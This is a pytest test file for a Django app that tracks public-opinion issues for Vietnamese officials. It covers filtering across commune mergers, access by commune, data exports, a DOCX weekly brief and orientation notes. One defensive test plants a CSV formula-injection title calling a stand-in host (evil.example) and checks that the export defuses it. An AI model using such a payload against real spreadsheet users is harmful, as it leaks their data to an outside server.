import csv
import io

import pytest
from docx import Document

from duluan.apps.issues.services import issues_refresh_hotness


@pytest.fixture
def data(demo, make_issue):
    merger = make_issue(
        "thu tuc sau sap nhap", unit=("pre2025", "07201"), days=(0, 1, 2), per_day=6, topic="reorganisation"
    )
    other = make_issue("duong xau", unit=("2025", "09187"), days=(0, 5), per_day=2)
    issues_refresh_hotness()
    return {"merger": merger, "other": other, **demo}


@pytest.mark.django_db
def test_dashboard_filters_by_old_and_new_units_across_the_merger(client, data):
    client.force_login(data["phantich"])
    # when filtering by the pre-2025 commune or by its 2025 successor
    old = client.get("/issues/", {"place": "pre2025:07201"}, HTTP_HX_REQUEST="true").content.decode()
    new = client.get("/issues/", {"place": "2025:07210"}, HTTP_HX_REQUEST="true").content.decode()
    # then the issue located in the old commune shows in both, the other issue in neither
    for page in (old, new):
        assert "thu tuc sau sap nhap" in page and "duong xau" not in page
    # and accent-insensitive search finds it
    found = client.get("/issues/", {"q": "SẮP nhập"}, HTTP_HX_REQUEST="true").content.decode()
    assert "thu tuc sau sap nhap" in found and "duong xau" not in found


@pytest.mark.django_db
def test_bad_filters_give_a_clear_message_and_unknown_issue_404(client, data):
    client.force_login(data["phantich"])
    response = client.get("/issues/", {"place": "xyz", "date_from": "31/02/2026"})
    assert response.status_code == 400
    assert "Địa bàn không hợp lệ" in response.content.decode()
    assert client.get("/issues/999999/").status_code == 404
    bad = client.get("/api/issues/", {"place": "2025:00000"})
    assert bad.status_code == 400
    assert bad.json()["detail"] == "Tham số không hợp lệ."
    assert [e["field"] for e in bad.json()["errors"]] == ["place"]


@pytest.mark.django_db
def test_officer_sees_only_issues_of_their_commune(client, data):
    # canbo.bacgiang works for phường Bắc Giang (2025), which took over pre-2025 Thọ Xương
    client.force_login(data["canbo.bacgiang"])
    assert client.get(f"/issues/{data['merger'].pk}/").status_code == 200
    assert client.get(f"/issues/{data['other'].pk}/").status_code == 404


@pytest.mark.django_db
def test_issue_page_explains_hotness_and_draws_charts(client, data):
    client.force_login(data["phantich"])
    page = client.get(f"/issues/{data['merger'].pk}/").content.decode()
    assert "Vì sao ở mức này" in page and "<svg" in page and "Phường Bắc Giang" in page
    assert data["merger"].title in page


@pytest.mark.django_db
def test_exports_stream_without_personal_data(client, data):
    client.force_login(data["phantich"])
    response = client.get("/issues/export.csv", {"topic": "reorganisation"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + 18 and "Mã tín hiệu" in rows[0]
    assert not any(h.lower() in ("họ tên", "điện thoại", "email") for h in rows[0])
    xlsx = client.get("/issues/export.xlsx")
    assert xlsx.status_code == 200 and b"".join(xlsx.streaming_content)[:2] == b"PK"


@pytest.mark.django_db
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client, data):
    from duluan.apps.intake.models import Signal

    # given a signal whose title a citizen wrote as a spreadsheet formula
    signal = Signal.objects.filter(issue=data["merger"]).first()
    signal.title = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    signal.save(update_fields=["title"])
    client.force_login(data["phantich"])
    # when the signals are exported as CSV
    response = client.get("/issues/export.csv", {"topic": "reorganisation"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    # then that cell opens with an apostrophe, and no cell opens with what starts a formula
    assert any(cell == "'" + signal.title for row in rows for cell in row)
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows[1:] for cell in row)


@pytest.mark.django_db
def test_weekly_brief_is_a_state_format_docx(client, data):
    client.force_login(data["dieuphoi"])
    response = client.get("/issues/brief/", {"from": "2026-01-01", "to": "2026-12-31"})
    assert response.status_code == 200
    doc = Document(io.BytesIO(response.content))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Tình hình dư luận xã hội" in text and "CÁC VẤN ĐỀ NỔI BẬT" in text
    assert client.get("/issues/brief/", {"from": "2026-02-10", "to": "2026-02-01"}).status_code == 400


@pytest.mark.django_db
def test_the_issue_page_links_its_orientation_notes(client, data):
    from duluan.apps.campaigns.services import note_create

    # given a coordinator's draft note about the hot merger issue
    coordinator = data["dieuphoi"]
    note_create(
        actor=coordinator,
        title="Định hướng về thủ tục sau sắp xếp",
        facts="Sự việc.",
        position="Quan điểm.",
        talking_points="Nội dung trọng tâm.",
        issue=data["merger"],
    )
    # when the coordinator opens the issue
    client.force_login(coordinator)
    html = client.get(f"/issues/{data['merger'].pk}/").content.decode()
    # then the note is linked, and so is the way to draft another
    assert "Định hướng về thủ tục sau sắp xếp" in html
    assert f"/campaigns/notes/new/?issue={data['merger'].pk}" in html
    # while the other issue has none
    assert "Chưa có thông tin định hướng." in client.get(f"/issues/{data['other'].pk}/").content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("username", ["quantri", "dieuphoi", "lanhdao.nnmt", "canbo.nnmt", "canbo.bacgiang"])
def test_the_way_to_draft_an_orientation_note_is_shown_to_those_who_may_draft_one(client, data, username):
    from duluan.apps.campaigns.permissions import can_draft_notes

    # given an official who handles issues (or the administrator), on an issue's page
    client.force_login(data[username])
    html = client.get(f"/issues/{data['merger'].pk}/").content.decode()
    link = f"/campaigns/notes/new/?issue={data['merger'].pk}"
    # then the way to draft a note is shown exactly when its page opens for them
    opened = client.get(link).status_code
    assert (link in html) == can_draft_notes(data[username]) == (opened == 200)
    assert opened in (200, 403)


@pytest.mark.django_db
def test_topics_are_named_in_the_pages_language_and_in_vietnamese_in_the_state_format_brief(client, data):
    # given an official who reads the platform in English, and the merger issue's topic
    vi, en = (
        "Sắp xếp đơn vị hành chính, tổ chức bộ máy",
        "Reorganisation of administrative units and the apparatus",
    )
    client.force_login(data["dieuphoi"])
    issue = f"/issues/{data['merger'].pk}/"
    assert vi in client.get(issue).content.decode()
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    # when they open the issue, the issues' list and the signals' list
    page, *lists = [client.get(path).content.decode() for path in (issue, "/issues/", "/intake/signals/")]
    # then each names the topic in English (the issue's stored alerts keep the words they were
    # raised with)
    assert f"<dd>{en}</dd>" in page and f"<dd>{vi}</dd>" not in page
    for html in lists:
        assert f">{en}</option>" in html and f">{vi}</option>" not in html
    assert f'<td class="hide-sm">{en}</td>' in lists[0]  # the issue's row
    # while the weekly brief, a report in the state's format, names it in Vietnamese
    brief = Document(
        io.BytesIO(client.get("/issues/brief/", {"from": "2026-01-01", "to": "2026-12-31"}).content)
    )
    text = "\n".join(p.text for p in brief.paragraphs) + "\n".join(
        c.text for t in brief.tables for r in t.rows for c in r.cells
    )
    assert vi in text and en not in text


@pytest.mark.django_db
def test_the_issue_pages_correction_forms_label_every_field(client, data):
    from duluan.apps.core.html_checks import form_problems

    # when the coordinator opens an issue, whose page holds the rename, topic, merge and split forms
    client.force_login(data["dieuphoi"])
    html = client.get(f"/issues/{data['merger'].pk}/").content.decode()
    # then every field has a label (a placeholder alone is not one) and no id is used twice
    assert 'name="reason"' in html and 'name="topic"' in html
    assert form_problems(html) == []
